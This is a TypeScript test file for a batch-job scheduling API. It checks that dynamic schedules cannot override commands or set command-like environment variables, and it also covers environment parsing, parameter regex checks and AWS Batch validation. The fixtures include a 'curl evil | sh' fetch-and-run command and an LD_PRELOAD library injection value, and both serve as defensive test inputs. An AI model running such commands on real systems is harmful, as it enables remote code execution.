/**
 * The rules only the API applies to dynamic schedules (shared/api/schedules.ts): no command
 * override unless the deployment allows it, and the switch read from the environment.
 */
import { describe, expect, it } from 'vitest';
import { commandOverrideIssues, taskPaths } from '#shared/api/schedules';
import { readApiEnv } from '#shared/api/deps';
import { ScheduleSchema } from '#shared/config/schema';
import { EnvironmentError, ValidationError } from '#shared/errors';
import { resolveParameters } from '#shared/api/runs';
import type { ScheduleDefinition } from '#shared/config/definition';
import { loadEvent } from '#test/helpers/events';
import { BatchClient, ClientException, DescribeJobDefinitionsCommand, DescribeJobQueuesCommand } from '@aws-sdk/client-batch';
import { mockClient } from 'aws-sdk-client-mock';
import { batchReferenceProblems } from '#shared/api/batch-refs';
import { resourceProblem } from '#shared/config/validate';

const spec = (raw: unknown) => ScheduleSchema.parse(raw);

describe('commandOverrideIssues', () => {
  const overriding = spec({
    expression: 'rate(1 hour)',
    tasks: {
      extract: { definition: 'd', command: ['sh', '-c', 'curl evil | sh'] },
      load: { definition: 'd', environment: { DAY: 'x', ld_preload: '/tmp/x.so' } },
    },
    onFailure: { cleanup: { definition: 'd', command: ['true'] } },
  });

  it('names every command and command-like environment variable a dynamic schedule sets', () => {
    expect(commandOverrideIssues(overriding, false)).toEqual([
      { path: 'body.tasks.extract.command', message: expect.stringContaining("a dynamic schedule cannot override the job definition's command") },
      { path: 'body.tasks.load.environment.ld_preload', message: expect.stringContaining('a dynamic schedule cannot set ld_preload') },
      { path: 'body.onFailure.cleanup.command', message: expect.stringContaining('custom.batchron.api.allowCommandOverride: true') },
    ]);
  });

  it('allows them when the deployment allows command overrides', () => {
    expect(commandOverrideIssues(overriding, true)).toEqual([]);
  });

  it('allows choosing a definition and passing parameters and ordinary environment', () => {
    const plain = spec({ expression: 'rate(1 hour)', job: { definition: 'd', environment: { DAY: '${param.day}' }, parameters: { k: 'v' } }, parameters: { day: {} } });
    expect(commandOverrideIssues(plain, false)).toEqual([]);
  });

  it('knows where each task was written', () => {
    expect(taskPaths(overriding)).toEqual({ extract: 'tasks.extract', load: 'tasks.load', cleanup: 'onFailure.cleanup' });
    expect(taskPaths(spec({ expression: 'rate(1 hour)', job: { definition: 'd' } }))).toEqual({ main: 'job' });
  });
});

describe('BATCHRON_ALLOW_COMMAND_OVERRIDE', () => {
  const base = {
    BATCHRON_TABLE: 't',
    BATCHRON_DEPLOYMENT: 'd',
    BATCHRON_SCHEDULE_GROUP: 'g',
    BATCHRON_FIRE_TARGET_ARN: 'arn:aws:lambda:us-east-1:123456789012:function:d-fire',
    BATCHRON_SCHEDULER_ROLE_ARN: 'arn:aws:iam::123456789012:role/r',
  };

  it.each([
    [undefined, false],
    ['', false],
    ['false', false],
    ['true', true],
    ['TRUE', true],
  ])('%j means %s', (value, expected) => {
    expect(readApiEnv({ ...base, BATCHRON_ALLOW_COMMAND_OVERRIDE: value }).allowCommandOverride).toBe(expected);
  });

  it('refuses anything else, naming the variable', () => {
    expect(() => readApiEnv({ ...base, BATCHRON_ALLOW_COMMAND_OVERRIDE: 'yes' })).toThrow(EnvironmentError);
    expect(() => readApiEnv({ ...base, BATCHRON_ALLOW_COMMAND_OVERRIDE: 'yes' })).toThrow(/BATCHRON_ALLOW_COMMAND_OVERRIDE/);
  });
});

describe('resolveParameters (run parameters against their patterns)', () => {
  const def = (pattern: string): ScheduleDefinition => ({ ...loadEvent<ScheduleDefinition>('engine', 'definition-single'), parameters: { x: { required: false, pattern } } });
  const issuesOf = (fn: () => unknown) => {
    try {
      fn();
      return [];
    } catch (error) {
      if (error instanceof ValidationError) return error.issues;
      throw error;
    }
  };

  it('refuses a value (a+)+$ does not match, and takes one it does', () => {
    expect(issuesOf(() => resolveParameters(def('(a+)+$'), { x: `${'a'.repeat(40)}!` }))).toEqual([
      { path: 'body.parameters.x', message: expect.stringContaining('does not match the pattern (a+)+$') },
    ]);
    expect(resolveParameters(def('(a+)+$'), { x: 'aaa' })).toEqual({ x: 'aaa' });
  });

  it('refuses a value it cannot check, when a schedule written before holds a pattern RE2 does not take', () => {
    expect(issuesOf(() => resolveParameters(def('(?!x)\\d+'), { x: '1' }))).toEqual([
      { path: 'body.parameters.x', message: expect.stringContaining('cannot be checked') },
    ]);
  });
});

describe('batchReferenceProblems (answers Batch gives that the local stack does not)', () => {
  const definition = (task: Partial<ScheduleDefinition['tasks'][number]>): ScheduleDefinition => {
    const base = loadEvent<ScheduleDefinition>('engine', 'definition-single');
    return { ...base, tasks: [{ ...base.tasks[0]!, ...task }] };
  };

  it('reports a queue Batch refuses to parse as missing, not as a failure of the API', async () => {
    const batch = mockClient(BatchClient);
    batch.on(DescribeJobDefinitionsCommand).resolves({ jobDefinitions: [{ jobDefinitionName: 'engine-ok', jobDefinitionArn: 'arn:aws:batch:us-east-1:1:job-definition/engine-ok:1', revision: 1, type: 'container', platformCapabilities: ['FARGATE'] }] });
    batch.on(DescribeJobQueuesCommand).rejects(new ClientException({ message: 'jobQueue is not a valid ARN', $metadata: {} }));
    const problems = await batchReferenceProblems(new BatchClient({ region: 'us-east-1' }), definition({ jobQueue: 'arn:bogus' }), { main: 'job' });
    expect(problems).toEqual([{ where: 'job.queue', message: 'job queue "arn:bogus" does not exist in AWS Batch' }]);
    batch.restore();
  });

  it('holds an EC2 job definition to whole vCPUs and a Fargate one to its pairs (resourceProblem)', () => {
    expect(resourceProblem('EC2', 0.5, 2048)).toBe('EC2 jobs take a whole number of vCPUs, at least 1 (got 0.5)');
    expect(resourceProblem('EC2', 4, 2048)).toBeUndefined();
    expect(resourceProblem('FARGATE', 0.3, 512)).toBe('Fargate takes vcpus 0.25, 0.5, 1, 2, 4, 8, 16 (got 0.3)');
    expect(resourceProblem('FARGATE', 0.5, 1024)).toBeUndefined();
  });
});
